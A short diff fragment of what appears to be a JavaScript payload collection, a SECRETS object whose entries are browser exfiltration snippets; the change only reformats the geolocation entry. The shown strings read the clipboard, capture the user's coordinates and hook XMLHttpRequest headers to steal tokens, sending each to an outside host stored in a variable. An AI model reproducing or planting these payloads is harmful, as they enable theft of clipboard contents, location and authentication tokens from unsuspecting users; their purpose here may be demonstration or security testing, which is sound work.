@@ -52,7 +52,7 @@ const SECRETS = {
 	clipboard:
 		"addEventListener('focus', async () => { const t = await navigator.clipboard.readText(); fetch(at + '/?' + t, { mode: 'no-cors' }) })",
 	geolocation:
-		"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(at + `/?${latitude},${longitude}`))",
+		"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(at + '/?' + latitude + ',' + longitude))",
 	token:
 		"const { setRequestHeader: set } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { new Image().src = at + '/?' + v; return set.call(this, n, v) }",
 	storage:
